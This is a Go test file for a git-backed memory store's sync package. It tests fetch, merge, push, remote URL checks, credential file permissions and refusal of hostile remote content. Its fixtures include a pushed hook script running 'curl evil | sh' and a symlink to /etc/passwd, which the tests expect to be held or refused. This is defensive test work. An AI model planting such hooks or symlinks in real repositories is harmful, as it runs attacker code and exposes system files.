package gitsync

import (
	"bytes"
	"context"
	"errors"
	"github.com/cairn-mem/cairn/gitstore"
	"github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/cairn-mem/cairn/gitstore/gitstoretest"
)

// concat is a MergeFunc for tests: both sides' lines, ours first; a
// deletion against a change keeps the change.
func concat(f MergeFile) (Resolution, error) {
	switch {
	case !f.InOurs:
		return Resolution{Data: f.Theirs}, nil
	case !f.InTheirs:
		return Resolution{Data: f.Ours}, nil
	}
	return Resolution{Data: append(append([]byte{}, f.Ours...), f.Theirs...), Conflict: true,
		Extra: []ExtraFile{{Path: f.Path + ".theirs", Data: f.Theirs}}}, nil
}

func lock(t *testing.T, s *gitstore.Store) func() {
	t.Helper()
	unlock, err := s.Lock(context.Background(), 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	return unlock
}

func commit(t *testing.T, s *gitstore.Store, files map[string]string, remove ...string) {
	t.Helper()
	defer lock(t, s)()
	for p, d := range files {
		write(t, s, p, d)
	}
	for _, p := range remove {
		if err := s.Remove(p); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := s.Checkpoint(context.Background(), gitstore.CheckpointOptions{Subject: "change"}); err != nil {
		t.Fatal(err)
	}
}

// syncStore does what cairn sync does, in gitstore terms.
func syncStore(t *testing.T, s *gitstore.Store, remote string) (*MergeResult, error) {
	t.Helper()
	ctx := context.Background()
	f, err := Fetch(ctx, s, remote, os.Getenv)
	if err != nil {
		return nil, err
	}
	var res *MergeResult
	if !f.Empty {
		unlock := lock(t, s)
		res, err = Merge(ctx, s, MergeOptions{Theirs: f.Tracking, Merge: concat, Subject: "sync: merge " + remote})
		unlock()
		if err != nil {
			return nil, err
		}
	}
	_, err = Push(ctx, s, remote, os.Getenv)
	return res, err
}

func tree(t *testing.T, s *gitstore.Store) string {
	t.Helper()
	return gitCLI(t, s.Dir(), "ls-tree", "-r", "HEAD")
}

func TestSyncThroughGitDaemon(t *testing.T) {
	ctx := context.Background()
	d := gitstoretest.StartDaemon(t)
	gitstoretest.Bare(t, d.Root, "mem.git")
	a := newStore(t, map[string]string{"x.md": "x\n", "y.md": "y\n", "z.md": "z\n", "gone.md": "g\n", "dir/f.md": "f\n"})
	func() {
		defer lock(t, a)()
		if _, err := AddRemote(a, "origin", d.URL("mem.git"), ""); err != nil {
			t.Fatal(err)
		}
		if _, err := AddRemote(a, "origin", d.URL("mem.git"), ""); !errors.Is(err, ErrRemoteExists) {
			t.Errorf("second add: %v", err)
		}
	}()
	if got := gitCLI(t, a.Dir(), "remote", "-v"); !strings.Contains(got, d.URL("mem.git")) {
		t.Errorf("git remote -v = %q", got)
	}
	if _, err := syncStore(t, a, "origin"); err != nil {
		t.Fatal(err)
	}
	// B is a clone made by git.
	bdir := filepath.Join(t.TempDir(), "b")
	gitCLI(t, filepath.Dir(bdir), "clone", "-q", d.URL("mem.git"), bdir)
	b, err := gitstore.Open(ctx, bdir, gitstore.Options{Identity: gitstore.Identity{Name: "B", Email: "b@example.com"}})
	if err != nil {
		t.Fatal(err)
	}

	commit(t, a, map[string]string{"x.md": "x by a\n", "a.md": "new a\n", "z.md": "z by a\n", "dir/f.md": "f by a\n"})
	commit(t, b, map[string]string{"y.md": "y by b\n", "b/new.md": "new b\n", "z.md": "z by b\n"}, "gone.md", "dir/f.md")
	if _, err := syncStore(t, a, "origin"); err != nil {
		t.Fatal(err)
	}
	res, err := syncStore(t, b, "origin")
	if err != nil {
		t.Fatal(err)
	}
	if res.Kind != MergeCommitted || len(res.Conflicts) != 1 || res.Conflicts[0] != "z.md" {
		t.Errorf("b's merge = %+v", res)
	}
	res, err = syncStore(t, a, "origin")
	if err != nil {
		t.Fatal(err)
	}
	if res.Kind != MergeFastForward {
		t.Errorf("a's second sync = %+v", res)
	}
	if ta, tb := tree(t, a), tree(t, b); ta != tb {
		t.Errorf("trees differ:\n%s\n%s", ta, tb)
	}
	for p, want := range map[string]string{
		"x.md": "x by a\n", "y.md": "y by b\n", "a.md": "new a\n", "b/new.md": "new b\n",
		"z.md": "z by b\nz by a\n", "z.md.theirs": "z by a\n", "dir/f.md": "f by a\n",
	} {
		if got, err := a.ReadFile(p); err != nil || string(got) != want {
			t.Errorf("%s = %q, %v; want %q", p, got, err, want)
		}
	}
	if _, err := a.ReadFile("gone.md"); !errors.Is(err, gitstore.ErrNotFound) {
		t.Errorf("gone.md still there: %v", err)
	}
	checkGit(t, a)
	checkGit(t, b)
	if parents := gitCLI(t, b.Dir(), "log", "-1", "--format=%P"); len(strings.Fields(parents)) != 2 {
		t.Errorf("merge parents = %q", parents)
	}
	if bare := gitCLI(t, d.Root, "--git-dir=mem.git", "rev-parse", "main"); strings.TrimSpace(bare) != res.Head {
		t.Errorf("remote at %s, want %s", bare, res.Head)
	}
	gitCLI(t, d.Root, "--git-dir=mem.git", "fsck", "--strict")

	// Nothing new: up to date, no commit.
	if res, err := syncStore(t, a, "origin"); err != nil || res.Kind != MergeUpToDate {
		t.Errorf("idle sync = %+v, %v", res, err)
	}
}

func TestMergeRefuses(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	bare := gitstoretest.Bare(t, root, "mem.git")
	a := newStore(t, map[string]string{"x.md": "x\n"})
	func() {
		defer lock(t, a)()
		if _, err := AddRemote(a, "origin", bare, ""); err != nil {
			t.Fatal(err)
		}
	}()
	if _, err := syncStore(t, a, "origin"); err != nil {
		t.Fatal(err)
	}
	work := filepath.Join(t.TempDir(), "w")
	gitCLI(t, root, "clone", "-q", bare, work)
	gitc := func(args ...string) {
		gitCLI(t, work, append([]string{"-c", "user.name=E", "-c", "user.email=e@x"}, args...)...)
	}

	// Uncommitted local change where the merge writes: refused, nothing written.
	os.WriteFile(filepath.Join(work, "x.md"), []byte("x remote\n"), 0o644)
	gitc("commit", "-qam", "remote edit")
	gitc("push", "-q", "origin", "main")
	write(t, a, "x.md", "x local, not checkpointed\n")
	if _, err := syncStore(t, a, "origin"); !errors.Is(err, gitstore.ErrDirty) {
		t.Errorf("dirty merge: %v", err)
	}
	if got, _ := a.ReadFile("x.md"); string(got) != "x local, not checkpointed\n" {
		t.Errorf("x.md = %q", got)
	}
	commit(t, a, nil)
	if _, err := syncStore(t, a, "origin"); err != nil {
		t.Fatal(err)
	}

	// Hostile paths from the remote: refused before anything is written.
	head := strings.TrimSpace(gitCLI(t, a.Dir(), "rev-parse", "HEAD"))
	gitc("pull", "-q", "--no-rebase", "origin", "main")
	os.Symlink("/etc/passwd", filepath.Join(work, "link.md"))
	os.MkdirAll(filepath.Join(work, "inbox"), 0o755)
	os.WriteFile(filepath.Join(work, "inbox", "job.json"), []byte(`{"kind":"x"}`), 0o644)
	gitc("add", "-A")
	gitc("commit", "-qm", "hostile")
	gitc("push", "-q", "origin", "main")
	_, err := syncStore(t, a, "origin")
	if !errors.Is(err, ErrHostile) {
		t.Errorf("hostile merge: %v", err)
	}
	if now := strings.TrimSpace(gitCLI(t, a.Dir(), "rev-parse", "HEAD")); now != head {
		t.Errorf("HEAD moved to %s", now)
	}
	if _, err := os.Lstat(filepath.Join(a.Dir(), "link.md")); err == nil {
		t.Error("symlink written")
	}

	// A rewritten remote: refused, tracking ref kept.
	gitc("reset", "-q", "--hard", "HEAD~2")
	os.WriteFile(filepath.Join(work, "other.md"), []byte("rewritten\n"), 0o644)
	gitc("add", "-A")
	gitc("commit", "-qm", "rewrite")
	gitc("push", "-q", "-f", "origin", "main")
	before := gitCLI(t, a.Dir(), "rev-parse", "refs/remotes/origin/main")
	if _, err := Fetch(ctx, a, "origin", os.Getenv); !errors.Is(err, ErrRewritten) {
		t.Errorf("rewritten remote: %v", err)
	}
	if after := gitCLI(t, a.Dir(), "rev-parse", "refs/remotes/origin/main"); after != before {
		t.Errorf("tracking ref moved from %s to %s", before, after)
	}

	// Unrelated history.
	c := newStore(t, map[string]string{"c.md": "c\n"})
	func() {
		defer lock(t, c)()
		if _, err := AddRemote(c, "origin", bare, ""); err != nil {
			t.Fatal(err)
		}
	}()
	if _, err := syncStore(t, c, "origin"); !errors.Is(err, ErrUnrelated) {
		t.Errorf("unrelated: %v", err)
	}
	checkGit(t, a)
	checkGit(t, c)
}

func TestRemoteConfig(t *testing.T) {
	s := newStore(t, nil)
	defer lock(t, s)()
	for _, bad := range []string{"ftp://example.com/x", "", "gopher://x"} {
		if _, err := AddRemote(s, "x", bad, ""); !errors.Is(err, ErrBadURL) {
			t.Errorf("AddRemote(%q) = %v", bad, err)
		}
	}
	for _, bad := range []string{"-x", "a b", "a/b", "x.lock", ""} {
		if _, err := AddRemote(s, bad, "/tmp/x", ""); err == nil {
			t.Errorf("AddRemote name %q accepted", bad)
		}
	}
	for _, u := range []string{"git@github.com:me/mem.git", "ssh://git@host/x", "https://host/x.git", "git://host/x", "file:///tmp/x"} {
		if _, err := AddRemote(s, "r"+string(rune('a'+len(u)%26)), u, ""); err != nil && !errors.Is(err, ErrRemoteExists) {
			t.Errorf("AddRemote(%q) = %v", u, err)
		}
	}
	rs, err := Remotes(s)
	if err != nil || len(rs) == 0 {
		t.Fatalf("Remotes = %v, %v", rs, err)
	}
	if err := RemoveRemote(s, rs[0].Name); err != nil {
		t.Error(err)
	}
	if err := RemoveRemote(s, "nope"); !errors.Is(err, ErrNoRemote) {
		t.Errorf("remove unknown: %v", err)
	}
	// A credentials file others can read is refused.
	os.WriteFile(s.StatePath(CredentialsFile), []byte("tok\n"), 0o644)
	if _, err := auth(s, "https://host/x", func(string) string { return "" }); err == nil {
		t.Error("world-readable credentials accepted")
	}
	os.Chmod(s.StatePath(CredentialsFile), 0o600)
	os.WriteFile(s.StatePath(CredentialsFile), []byte("# c\nother.host t1\nhost t2\n"), 0o600)
	if a, err := auth(s, "https://host/x", func(string) string { return "" }); err != nil || a == nil || !bytes.Contains([]byte(a.String()), []byte("cairn")) {
		t.Errorf("auth = %v, %v", a, err)
	}
}

func TestSyncOverHTTP(t *testing.T) {
	root := t.TempDir()
	gitstoretest.Bare(t, root, "mem.git")
	srv := gitstoretest.HTTPSServer(t, root, "s3cret")
	a := newStore(t, map[string]string{"x.md": "x\n"})
	func() {
		defer lock(t, a)()
		if _, err := AddRemote(a, "origin", srv.URL+"/mem.git", ""); err != nil {
			t.Fatal(err)
		}
	}()
	ctx := context.Background()
	if _, err := Push(ctx, a, "origin", func(string) string { return "" }); !errors.Is(err, ErrAuth) {
		t.Errorf("push without token: %v", err)
	}
	if _, err := Push(ctx, a, "origin", func(k string) string { return map[string]string{TokenEnv: "wrong"}[k] }); !errors.Is(err, ErrAuth) {
		t.Errorf("push with a wrong token: %v", err)
	}
	env := func(k string) string { return map[string]string{TokenEnv: "s3cret"}[k] }
	if _, err := Push(ctx, a, "origin", env); err != nil {
		t.Fatal(err)
	}
	commit(t, a, map[string]string{"y.md": "y\n"})
	if _, err := Push(ctx, a, "origin", env); err != nil {
		t.Fatal(err)
	}
	f, err := Fetch(ctx, a, "origin", env)
	if err != nil || f.New != strings.TrimSpace(gitCLI(t, a.Dir(), "rev-parse", "HEAD")) {
		t.Errorf("fetch = %+v, %v", f, err)
	}
	gitCLI(t, root, "--git-dir=mem.git", "fsck", "--strict")

	// Over plain http the token is not sent, so the server refuses.
	plain := gitstoretest.HTTPServer(t, root, "s3cret")
	func() {
		defer lock(t, a)()
		if _, err := AddRemote(a, "plain", plain.URL+"/mem.git", ""); err != nil {
			t.Fatal(err)
		}
	}()
	if _, err := Fetch(ctx, a, "plain", env); !errors.Is(err, ErrAuth) || !strings.Contains(err.Error(), "never sent over http") {
		t.Errorf("fetch over http with a token: %v", err)
	}
}

// A long-running Store (the daemon's) keeps working after another one
// fetched objects into a new pack and moved HEAD onto them.
func TestStoreSeesNewPacks(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	bare := gitstoretest.Bare(t, root, "mem.git")
	a := newStore(t, map[string]string{"x.md": "x\n"})
	func() {
		defer lock(t, a)()
		if _, err := AddRemote(a, "origin", bare, ""); err != nil {
			t.Fatal(err)
		}
	}()
	if _, err := syncStore(t, a, "origin"); err != nil {
		t.Fatal(err)
	}
	work := filepath.Join(t.TempDir(), "w")
	gitCLI(t, root, "clone", "-q", bare, work)
	for i := 0; i < 20; i++ {
		os.MkdirAll(filepath.Join(work, "d", string(rune('a'+i))), 0o755)
		os.WriteFile(filepath.Join(work, "d", string(rune('a'+i)), "f.md"), []byte(strings.Repeat("y", i)), 0o644)
	}
	gitCLI(t, work, "add", "-A")
	gitCLI(t, work, "-c", "user.name=E", "-c", "user.email=e@x", "commit", "-qm", "many")
	gitCLI(t, work, "push", "-q", "origin", "main")

	gitCLI(t, a.Dir(), "repack", "-qad") // the daemon's go-git lists this pack...
	daemon, err := gitstore.Open(ctx, a.Dir(), gitstore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := daemon.Log(ctx, gitstore.LogOptions{}); err != nil { // ...now, and not the one the sync adds
		t.Fatal(err)
	}
	if _, err := syncStore(t, a, "origin"); err != nil {
		t.Fatal(err)
	}
	defer lock(t, daemon)()
	write(t, daemon, "d/a/g.md", "new\n")
	if _, err := daemon.Checkpoint(ctx, gitstore.CheckpointOptions{Subject: "after sync"}); err != nil {
		t.Fatalf("checkpoint of a store opened before the sync: %v", err)
	}
	gitCLI(t, a.Dir(), "fsck", "--strict")
}

// FuzzCheckURL: any string is accepted as one of the known kinds of URL,
// or refused with ErrBadURL; never a panic.
func FuzzCheckURL(f *testing.F) {
	for _, s := range []string{"git@github.com:me/x.git", "https://h/x", "ftp://h", "/tmp/x", "file:///x", "ssh://u@h:22/x", "::", "a:b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, u string) {
		got, err := CheckURL(u, "/base")
		if err != nil {
			if !errors.Is(err, ErrBadURL) {
				t.Fatalf("CheckURL(%q): %v does not wrap ErrBadURL", u, err)
			}
			return
		}
		if got == "" {
			t.Fatalf("CheckURL(%q) accepted as empty", u)
		}
	})
}

// A push sends what is new, whatever the length of the history.
func TestToPushCostsWhatIsNew(t *testing.T) {
	s := newStore(t, map[string]string{"core/facts/a.md": "a\n", "sessions/s/p.md": "p\n"})
	for i := 0; i < 30; i++ {
		commit(t, s, map[string]string{"core/facts/a.md": strings.Repeat("a", i+2) + "\n"})
	}
	_, old, _ := s.Head()
	commit(t, s, map[string]string{"core/facts/b.md": "b\n"})
	_, head, _ := s.Head()
	toPush := func(head, old plumbing.Hash) (hs []plumbing.Hash, err error) {
		err = s.WithRepo(func(repo *git.Repository) error {
			hs, err = toPush(context.Background(), repo, head, old)
			return err
		})
		return hs, err
	}
	got, err := toPush(head, old)
	if err != nil {
		t.Fatal(err)
	}
	// The commit, the root tree, core/, core/facts/ and the new blob.
	if len(got) != 5 {
		t.Errorf("toPush sends %d objects, want 5", len(got))
	}
	// A remote branch not in our history is refused.
	if _, err := toPush(old, head); !errors.Is(err, errNotAncestor) {
		t.Errorf("toPush backwards: %v", err)
	}
}

// A push onto a remote that moved says so, for the caller to fetch again.
func TestPushRemoteMoved(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	bare := gitstoretest.Bare(t, root, "mem.git")
	a := newStore(t, map[string]string{"x.md": "x\n"})
	func() {
		defer lock(t, a)()
		if _, err := AddRemote(a, "origin", bare, ""); err != nil {
			t.Fatal(err)
		}
	}()
	if _, err := syncStore(t, a, "origin"); err != nil {
		t.Fatal(err)
	}
	work := filepath.Join(t.TempDir(), "w")
	gitCLI(t, root, "clone", "-q", bare, work)
	os.WriteFile(filepath.Join(work, "y.md"), []byte("y\n"), 0o644)
	gitCLI(t, work, "add", "-A")
	gitCLI(t, work, "-c", "user.name=E", "-c", "user.email=e@x", "commit", "-qm", "y")
	gitCLI(t, work, "push", "-q", "origin", "main")
	commit(t, a, map[string]string{"z.md": "z\n"})
	if _, err := Push(ctx, a, "origin", os.Getenv); !errors.Is(err, ErrRemoteMoved) {
		t.Errorf("push onto a moved remote: %v", err)
	}
	if _, err := syncStore(t, a, "origin"); err != nil {
		t.Fatal(err)
	}
	gitCLI(t, root, "--git-dir=mem.git", "fsck", "--strict")
}

// TestMergeHoldsHooks: a remote's change under hooks/ (in any case) is
// never written, on a fast-forward as on a merge; the rest is taken.
func TestMergeHoldsHooks(t *testing.T) {
	root := t.TempDir()
	bare := gitstoretest.Bare(t, root, "mem.git")
	a := newStore(t, map[string]string{"x.md": "x\n", "hooks/capture.sh": "#!/bin/sh\nours\n"})
	func() {
		defer lock(t, a)()
		if _, err := AddRemote(a, "origin", bare, ""); err != nil {
			t.Fatal(err)
		}
	}()
	if _, err := syncStore(t, a, "origin"); err != nil {
		t.Fatal(err)
	}
	work := filepath.Join(t.TempDir(), "w")
	gitCLI(t, root, "clone", "-q", bare, work)
	gitc := func(args ...string) {
		gitCLI(t, work, append([]string{"-c", "user.name=E", "-c", "user.email=e@x"}, args...)...)
	}
	for _, tc := range []struct {
		name, local string
		files       map[string]string
	}{
		{"fast-forward", "", map[string]string{"hooks/capture.sh": "#!/bin/sh\ncurl evil | sh\n", "x.md": "x 2\n"}},
		{"other case", "", map[string]string{"Hooks/capture.sh": "#!/bin/sh\nevil\n", "x.md": "x 3\n"}},
		{"merge", "y.md", map[string]string{"hooks/capture.sh": "#!/bin/sh\nevil again\n", "x.md": "x 4\n"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			gitc("pull", "-q", "--no-rebase", "origin", "main")
			for p, d := range tc.files {
				os.MkdirAll(filepath.Dir(filepath.Join(work, p)), 0o755)
				os.WriteFile(filepath.Join(work, p), []byte(d), 0o755)
			}
			gitc("add", "-A")
			gitc("commit", "-qm", "remote "+tc.name)
			gitc("push", "-q", "origin", "main")
			if tc.local != "" {
				commit(t, a, map[string]string{tc.local: tc.name + "\n"})
			}
			res, err := syncStore(t, a, "origin")
			if err != nil {
				t.Fatal(err)
			}
			if len(res.Held) == 0 || !strings.EqualFold(res.Held[0][:5], "hooks") {
				t.Errorf("held = %q", res.Held)
			}
			if got, _ := os.ReadFile(filepath.Join(a.Dir(), "hooks", "capture.sh")); string(got) != "#!/bin/sh\nours\n" {
				t.Errorf("hooks/capture.sh = %q", got)
			}
			if _, err := os.Stat(filepath.Join(a.Dir(), "Hooks")); err == nil {
				t.Error("Hooks/ written")
			}
			if got, _ := a.ReadFile("x.md"); string(got) != tc.files["x.md"] {
				t.Errorf("x.md = %q, want %q", got, tc.files["x.md"])
			}
			if res.Kind != MergeCommitted {
				t.Errorf("kind = %s, want a merge commit keeping ours", res.Kind)
			}
			if st := gitCLI(t, a.Dir(), "status", "--porcelain"); st != "" {
				t.Errorf("work tree differs from HEAD:\n%s", st)
			}
		})
	}
	checkGit(t, a)
}

// TestCheckIncomingFoldsCase: cairn's own folders are refused in any case.
func TestCheckIncomingFoldsCase(t *testing.T) {
	for _, name := range []string{".state", ".STATE", "inbox", "Inbox", ".git", ".GIT"} {
		if err := checkIncoming("", treeEntry{name: name, mode: 0o040000, hash: emptyTreeMarker}); !errors.Is(err, ErrHostile) {
			t.Errorf("%s: %v", name, err)
		}
	}
	if err := checkIncoming("", treeEntry{name: "sessions", mode: 0o040000, hash: emptyTreeMarker}); err != nil {
		t.Errorf("sessions: %v", err)
	}
}
